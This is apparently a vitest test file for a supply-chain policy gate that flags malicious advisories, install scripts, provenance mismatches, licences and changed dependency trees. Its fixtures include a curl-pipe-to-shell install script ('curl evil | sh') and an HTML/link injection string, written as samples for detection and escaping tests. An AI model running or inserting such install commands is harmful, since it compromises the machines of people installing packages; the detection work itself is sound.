/** The policy's JSON Schema as committed, and the rules `check` evaluates, on trees built here. */
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { diffTrees } from '../../gate/diff.js';
import { evaluate, hasExpired, licenceOk, parsePackageSpec } from '../../gate/evaluate.js';
import { LockfileLines } from '../../gate/lockfile-lines.js';
import { md } from '../../gate/markdown.js';
import { parsePolicy, policyJsonSchema } from '../../gate/policy.js';
import type { Tree, TreeVersion } from '../../gate/tree.js';

function version(name: string, facts: Partial<TreeVersion> = {}): TreeVersion {
  return {
    key: `pkg:npm/${name.replace('@', '%40')}@1.0.0`,
    pkg: `pkg:npm/${name.replace('@', '%40')}`,
    ecosystem: 'npm',
    name,
    version: '1.0.0',
    project: false,
    publishers: ['person:npm:alice'],
    maintainers: ['person:npm:alice'],
    installScripts: [],
    installScriptText: [],
    provenance: false,
    trustedPublisher: false,
    license: 'MIT',
    flags: [],
    flagSeverity: null,
    advisories: [],
    trust: 0.6,
    ownTrust: 0.6,
    reach: 1,
    busFactor: 1,
    ...facts,
  };
}

function tree(...versions: TreeVersion[]): Tree {
  return {
    root: 'pkg:npm/app@1.0.0',
    asOf: undefined,
    versions: new Map(versions.map((v) => [v.key, v])),
    people: new Map(),
    advisoriesKnown: true,
  };
}

const rulesOf = (text: string, t: Tree): string[] =>
  evaluate(
    [t],
    parsePolicy(text, 'policy.yaml'),
    new Date('2026-12-01T00:00:00Z'),
  )[0]?.findings.map((f) => `${f.rule} ${f.name}: ${f.message}`) ?? [];

describe('the policy file', () => {
  it('has the JSON Schema committed under schemas/ that the loader checks against', () => {
    const committed = JSON.parse(
      fs.readFileSync('schemas/trustmap.policy.schema.json', 'utf8'),
    ) as unknown;
    // Regenerate with: npx tsx scripts/write-schemas.ts
    expect(committed).toEqual(policyJsonSchema());
  });

  it('reads a YAML key named __proto__ as a key, and refuses it as an unknown one', () => {
    expect(() => parsePolicy('version: 1\n__proto__: {polluted: true}\n', 'p.yaml')).toThrow(
      /Unrecognized key/,
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('the rules', () => {
  it('fail malicious releases whatever the policy says, and advisories by severity', () => {
    const t = tree(
      version('evil', { advisories: [{ id: 'MAL-2025-1', severity: undefined, malicious: true }] }),
      version('old', { advisories: [{ id: 'GHSA-x', severity: 'moderate', malicious: false }] }),
      version('bad', { advisories: [{ id: 'GHSA-y', severity: 'critical', malicious: false }] }),
    );
    expect(rulesOf('version: 1\n', t)).toEqual(['malicious evil: known malicious (MAL-2025-1)']);
    expect(rulesOf('version: 1\nrules: {advisories: {}}\n', t)).toEqual([
      'advisory bad: GHSA-y, severity critical',
      'malicious evil: known malicious (MAL-2025-1)',
    ]);
  });

  it('check trust, install scripts, provenance for a scope, the bus factor and licences', () => {
    const t = tree(
      version('low', { trust: 0.1 }),
      version('scripted', {
        installScripts: ['postinstall'],
        installScriptText: ['postinstall: node x'],
      }),
      version('allowed-native', { installScripts: ['install'] }),
      version('@acme/core', { provenance: false }),
      version('@acme/signed', { provenance: true }),
      version('hub', { busFactor: 1, reach: 500 }),
      version('gpl', { license: 'GPL-3.0-only' }),
      version('dual', { license: '(MIT OR GPL-3.0-only)' }),
    );
    const policy = `version: 1
rules:
  trust: {min: 0.2}
  installScripts: {allow: [allowed-native]}
  provenance: {require: ['@acme/*']}
  busFactor: {min: 2, reachAbove: 100}
  licences: {deny: [GPL-3.0-only]}
`;
    expect(rulesOf(policy, t)).toEqual([
      'provenance @acme/core: no provenance, which the policy requires for @acme/core',
      'licence gpl: licence GPL-3.0-only is refused',
      'bus-factor hub: 1 person can publish it, and 500 versions depend on it',
      'trust low: trust 0.10, below 0.2',
      'install-script scripted: runs postinstall at install (postinstall: node x)',
    ]);
  });

  it('refuse, under provenance.require, a build proven from another repository, once', () => {
    const mismatch = {
      id: 'repository-mismatch' as const,
      severity: 'medium' as const,
      evidence: 'built from github.com/mallory/core, but the package names github.com/acme/core',
      since: '',
    };
    const dropped = {
      id: 'trusted-publishing-dropped' as const,
      severity: 'medium' as const,
      evidence: 'published by a token, where 1.0.0 was published by trusted publishing',
      since: '',
    };
    const t = tree(
      version('@acme/core', { provenance: true, flags: [mismatch] }),
      version('@acme/honest', { provenance: true }),
      version('other', { provenance: true, flags: [mismatch] }),
      // Another provenance finding does not hide the mismatch.
      version('both', { provenance: true, flags: [mismatch, dropped] }),
    );
    const policy =
      "version: 1\nrules:\n  provenance: {require: ['@acme/*'], noDowngrade: true}\n  flags: {severity: [high, medium]}\n";
    expect(rulesOf(policy, t)).toEqual([
      'provenance @acme/core: provenance from another repository (built from github.com/mallory/core, but the package names github.com/acme/core), which the policy does not accept for @acme/core',
      'provenance both: published by a token, where 1.0.0 was published by trusted publishing',
      'flag both: medium repository-mismatch: built from github.com/mallory/core, but the package names github.com/acme/core',
      'flag other: medium repository-mismatch: built from github.com/mallory/core, but the package names github.com/acme/core',
    ]);
  });

  it('do not report a flag twice when a rule of its own reports it', () => {
    const flag = {
      id: 'new-publisher',
      severity: 'high' as const,
      evidence: 'published by mallory',
      since: '',
    };
    const t = tree(version('taken', { flags: [flag] }));
    expect(rulesOf('version: 1\nrules: {flags: {}}\n', t)).toEqual([
      'flag taken: high new-publisher: published by mallory',
    ]);
    expect(rulesOf('version: 1\nrules: {flags: {}, newPublishers: {}}\n', t)).toEqual([
      'new-publisher taken: published by mallory',
    ]);
  });

  it('match exceptions by package URL and range, and expire them after their last day', () => {
    expect(parsePackageSpec('pkg:npm/%40acme/core@^1.2.0')).toEqual({
      ecosystem: 'npm',
      name: '@acme/core',
      range: '^1.2.0',
    });
    expect(parsePackageSpec('pkg:npm/left-pad')).toEqual({
      ecosystem: 'npm',
      name: 'left-pad',
      range: undefined,
    });
    const exception = {
      package: 'pkg:npm/x',
      rule: 'trust' as const,
      reason: 'r',
      owner: 'o',
      expires: '2026-12-01',
    };
    expect(hasExpired(exception, new Date('2026-12-01T23:59:59Z'))).toBe(false);
    expect(hasExpired(exception, new Date('2026-12-02T00:00:00Z'))).toBe(true);
    const t = tree(version('@acme/core', { trust: 0.1 }));
    const policy = (range: string): string =>
      `version: 1\nrules: {trust: {min: 0.2}}\nexceptions:\n  - {package: 'pkg:npm/@acme/core@${range}', rule: trust, reason: r, owner: o, expires: 2030-01-01}\n`;
    const [inRange] = evaluate(
      [t],
      parsePolicy(policy('^1.0.0'), 'p'),
      new Date('2026-12-01T00:00:00Z'),
    );
    expect(inRange?.passed).toBe(true);
    expect(inRange?.unused).toEqual([]);
    const [outOfRange] = evaluate(
      [t],
      parsePolicy(policy('^2.0.0'), 'p'),
      new Date('2026-12-01T00:00:00Z'),
    );
    expect(outOfRange?.passed).toBe(false);
    expect(outOfRange?.unused.map((e) => e.package)).toEqual(['pkg:npm/@acme/core@^2.0.0']);
  });

  it('report a flag an allow-list passes over: an allowed script does not hide a new one', () => {
    const flag = {
      id: 'install-script-added',
      severity: 'high' as const,
      evidence: 'adds preinstall at install, absent in 1.0.0 (preinstall: curl evil | sh)',
      since: '',
    };
    const t = tree(version('esbuild', { installScripts: ['preinstall'], flags: [flag] }));
    const policy = 'version: 1\nrules: {flags: {}, installScripts: {allow: [esbuild]}}\n';
    expect(rulesOf(policy, t)).toEqual([
      'flag esbuild: high install-script-added: adds preinstall at install, absent in 1.0.0 (preinstall: curl evil | sh)',
    ]);
  });

  it('read licence expressions: AND binds tighter than OR, WITH judged as its licence', () => {
    const ok = (id: string): boolean => id !== 'GPL-2.0-only';
    expect(licenceOk('GPL-2.0-only WITH Classpath-exception-2.0', ok)).toBe(false);
    expect(licenceOk('(MIT OR GPL-2.0-only)', ok)).toBe(true);
    expect(licenceOk('MIT AND GPL-2.0-only', ok)).toBe(false);
    expect(licenceOk('MIT AND Apache-2.0 OR GPL-2.0-only', ok)).toBe(true);
  });

  it('compare PyPI names as PEP 503 normalises them, and prefer an exception that still holds', () => {
    expect(parsePackageSpec('pkg:pypi/Typing_Extensions@4.0.0?x=1')).toEqual({
      ecosystem: 'pypi',
      name: 'typing-extensions',
      range: '4.0.0',
    });
    const py = {
      ...version('typing_extensions', { trust: 0.1 }),
      ecosystem: 'pypi',
      key: 'pkg:pypi/typing-extensions@1.0.0',
      pkg: 'pkg:pypi/typing-extensions',
    };
    const entry = (expires: string): string =>
      `  - {package: pkg:pypi/typing-extensions, rule: trust, reason: r, owner: o, expires: ${expires}}\n`;
    const policy = `version: 1\nrules: {trust: {min: 0.2}}\nexceptions:\n${entry('2020-01-01')}${entry('2030-01-01')}`;
    const [result] = evaluate(
      [tree(py)],
      parsePolicy(policy, 'p'),
      new Date('2026-12-01T00:00:00Z'),
    );
    expect(result?.passed).toBe(true);
    expect(result?.findings[0]?.accepted?.expires).toBe('2030-01-01');
    expect(result?.unused).toEqual([]);
  });
});

describe('where a package is in a lockfile', () => {
  it("finds npm's entry by its own version, not the next entry's", () => {
    const lock = [
      '{',
      '  "packages": {',
      '    "node_modules/a/node_modules/b": {',
      '      "version": "2.0.0"',
      '    },',
      '    "node_modules/b": {',
      '      "version": "1.0.0"',
      '    }',
      '  }',
      '}',
    ].join('\n');
    const lines = new LockfileLines(lock);
    expect(lines.find('b', '1.0.0')).toBe(6);
    expect(lines.find('b', '2.0.0')).toBe(3);
  });

  it('finds pnpm and yarn entries, scoped names included', () => {
    const pnpm = new LockfileLines(
      "packages:\n\n  /left-pad@1.3.0:\n    resolution: {}\n  '@babel/core@7.24.0':\n",
    );
    expect(pnpm.find('left-pad', '1.3.0')).toBe(3);
    expect(pnpm.find('@babel/core', '7.24.0')).toBe(5);
    const yarn = new LockfileLines(
      '# yarn\n\n"@babel/core@^7.0.0":\n  version "7.24.0"\n\nleft-pad@^1.0.0:\n  version "1.3.0"\n',
    );
    expect(yarn.find('@babel/core', '7.24.0')).toBe(3);
    expect(yarn.find('left-pad', '1.3.0')).toBe(6);
  });
});

describe('Markdown from registry text', () => {
  it('is text: no markup, no mention, no link', () => {
    const out = md('<img src=x> **bold** [x](https://evil.example) @octocat | www.evil.example');
    for (const escaped of [
      '\\<img',
      '\\*\\*bold',
      '\\[x\\]',
      'https:\u2060//',
      '@\u2060octocat',
      '\\|',
      'www\u2060.',
    ])
      expect(out).toContain(escaped);
    expect(out.replace(/[\\\u2060]/g, '')).toBe(
      '<img src=x> **bold** [x](https://evil.example) @octocat | www.evil.example',
    );
  });
});

describe('the diff of two trees', () => {
  it('names a new script body under an old name, and tells a version change from versions added', () => {
    const base = tree(
      version('esbuild', {
        installScripts: ['postinstall'],
        installScriptText: ['postinstall: node install.js'],
      }),
      version('two'),
    );
    const changed = {
      ...version('esbuild', {
        installScripts: ['postinstall'],
        installScriptText: ['postinstall: curl evil | sh'],
      }),
      key: 'pkg:npm/esbuild@1.0.1',
      version: '1.0.1',
    };
    const second = { ...version('two'), key: 'pkg:npm/two@2.0.0', version: '2.0.0' };
    const head = tree(changed, version('two'), second);
    const diff = diffTrees(base, head);
    expect(diff.installScripts).toEqual([
      {
        key: 'pkg:npm/esbuild@1.0.1',
        scripts: ['postinstall'],
        text: ['postinstall: curl evil | sh'],
      },
    ]);
    expect(diff.changed).toEqual([{ name: 'esbuild', from: '1.0.0', to: '1.0.1', jump: 'patch' }]);
    expect(diff.added).toEqual(['pkg:npm/two@2.0.0']);
    expect(diff.removed).toEqual([]);
  });
});
